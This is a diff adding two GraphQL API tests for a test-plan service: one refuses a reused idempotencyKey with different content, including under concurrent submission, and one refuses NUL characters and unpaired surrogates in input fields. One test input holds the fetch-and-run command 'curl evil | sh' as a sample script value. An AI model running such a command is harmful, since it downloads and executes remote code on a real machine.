@@ -108,6 +108,76 @@ export function apiSuite(dbName: string, setup: () => Promise<{ server: TestServ
       assert.equal(afterwards.tests, before.tests + 2);
     });
 
+    it('refuses the same idempotencyKey with other content (BAD_USER_INPUT naming it), also when submitted at once', async () => {
+      const key = `claimed-${Date.now()}`;
+      const before = await stored();
+      const first = (await gqlOk(url, SUBMIT, { input: { name: 'mine', idempotencyKey: key, tests: [unit('a')] } })).submitPlan;
+      for (const other of [
+        { name: 'theirs', idempotencyKey: key, tests: [unit('a')] },
+        { name: 'mine', idempotencyKey: key, tests: [unit('a', { script: 'curl evil | sh' })] },
+        { name: 'mine', idempotencyKey: key, tests: [unit('a'), unit('b')] },
+      ]) {
+        const r = await gql(url, SUBMIT, { input: other });
+        assert.equal(r.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', JSON.stringify(r));
+        assert.match(r.errors![0].message, /idempotencyKey .*already used with other content/);
+        assert.equal(r.errors![0].extensions?.field, 'idempotencyKey');
+        assert.equal(r.data ?? null, null);
+      }
+      // the same content (nulls as absent fields) still gets the first plan
+      const same = (await gqlOk(url, SUBMIT, { input: { name: 'mine', idempotencyKey: key, priority: null, tests: [unit('a', { env: null })] } })).submitPlan;
+      assert.equal(same.id, first.id);
+      assert.deepEqual(await stored(), { plans: before.plans + 1, tests: before.tests + 1 });
+
+      // concurrent submissions of one new key with two contents: one plan; its content gets it, the other is refused
+      const race = `race-${Date.now()}`;
+      const contents = [0, 1, 0, 1, 0, 1].map((n) => ({ name: `race-${n}`, idempotencyKey: race, tests: [unit(`t${n}`)] }));
+      const answers = await Promise.all(contents.map((input) => gql(url, SUBMIT, { input })));
+      const won = answers.filter((a) => a.data?.submitPlan);
+      const ids = new Set(won.map((a) => a.data.submitPlan.id));
+      assert.equal(ids.size, 1, JSON.stringify(answers));
+      const winner = won[0].data.submitPlan.name;
+      answers.forEach((a, i) => {
+        if (contents[i].name === winner) assert.equal(a.data?.submitPlan?.id, [...ids][0], JSON.stringify(a));
+        else assert.deepEqual([a.errors?.[0]?.extensions?.code, a.errors?.[0]?.extensions?.field], ['BAD_USER_INPUT', 'idempotencyKey'], JSON.stringify(a));
+      });
+      assert.deepEqual(await stored(), { plans: before.plans + 2, tests: before.tests + 2 });
+    });
+
+    it('refuses a NUL (or an unpaired surrogate) in any input string with BAD_USER_INPUT naming the field, and stores nothing', async () => {
+      const before = await stored();
+      const nul = 'x\u0000y';
+      const svc = (over: Record<string, unknown>) => ({ name: 'i', type: 'INTEGRATION', script: 'true', services: [{ name: 'db', command: 'sleep 9', ...over }] });
+      const cases: [Record<string, unknown>, string][] = [
+        [{ name: nul, tests: [unit('a')] }, 'name'],
+        [{ name: 'p', idempotencyKey: nul, tests: [unit('a')] }, 'idempotencyKey'],
+        [{ name: 'p', tests: [unit('ok'), unit(nul)] }, 'tests[1].name'],
+        [{ name: 'p', tests: [unit('a', { script: `echo ${nul}` })] }, 'tests[0].script'],
+        [{ name: 'p', tests: [unit('a', { env: [{ name: nul, value: 'v' }] })] }, 'tests[0].env[0].name'],
+        [{ name: 'p', tests: [unit('a', { env: [{ name: 'A', value: nul }] })] }, 'tests[0].env[0].value'],
+        [{ name: 'p', tests: [svc({ name: nul })] }, 'tests[0].services[0].name'],
+        [{ name: 'p', tests: [svc({ command: nul })] }, 'tests[0].services[0].command'],
+        [{ name: 'p', tests: [svc({ readyCheck: nul })] }, 'tests[0].services[0].readyCheck'],
+        [{ name: 'p', tests: [unit('a', { artifactPaths: ['ok.txt', nul] })] }, 'tests[0].artifactPaths[1]'],
+        [{ name: 'p', tests: [unit('a', { requirements: { tags: [nul] } })] }, 'tests[0].requirements.tags[0]'],
+        [{ name: 'p', tests: [unit('a', { requirements: { arch: nul } })] }, 'tests[0].requirements.arch'],
+        [{ name: 'p', tests: [unit('a', { requirements: { image: nul } })] }, 'tests[0].requirements.image'],
+      ];
+      for (const [input, field] of cases) {
+        const r: any = await gql(url, SUBMIT, { input }); // JSON carries the NUL as \u0000
+        assert.equal(r.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', `${field}: ${JSON.stringify(r.errors)}`);
+        const problems = r.errors[0].extensions.problems as { field: string; message: string }[];
+        assert.ok(problems.some((p) => p.field === field && /NUL/.test(p.message)), `${field}: ${JSON.stringify(problems)}`);
+        assert.match(r.errors[0].message, new RegExp(`${field.replace(/[[\].]/g, '\\$&')}.* must not contain NUL`), field);
+      }
+      // an unpaired surrogate (JSON can carry one; jsonb and UTF-8 cannot) is refused by the same rule
+      const lone: any = await gql(url, SUBMIT, { input: { name: 'p', tests: [unit('a', { script: 'echo \udc00' })] } });
+      assert.equal(lone.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', JSON.stringify(lone));
+      assert.match(lone.errors[0].message, /tests\[0\]\.script \("a"\) must be valid Unicode text/);
+      const env = await gql(url, `query($p: String) { environments(pool: $p) { id } }`, { p: 'x\u0000' });
+      assert.deepEqual([env.errors?.[0]?.extensions?.code, env.errors?.[0]?.extensions?.field], ['BAD_USER_INPUT', 'pool'], JSON.stringify(env));
+      assert.deepEqual(await stored(), before);
+    });
+
     it('pages through tests and plans with cursors, filters and totalCount', async () => {
       const { submitPlan } = await gqlOk(url, SUBMIT, { input: { name: 'paged', tests: Array.from({ length: 7 }, (_, i) => unit(`t${i}`)) } });
       const seen: string[] = [];
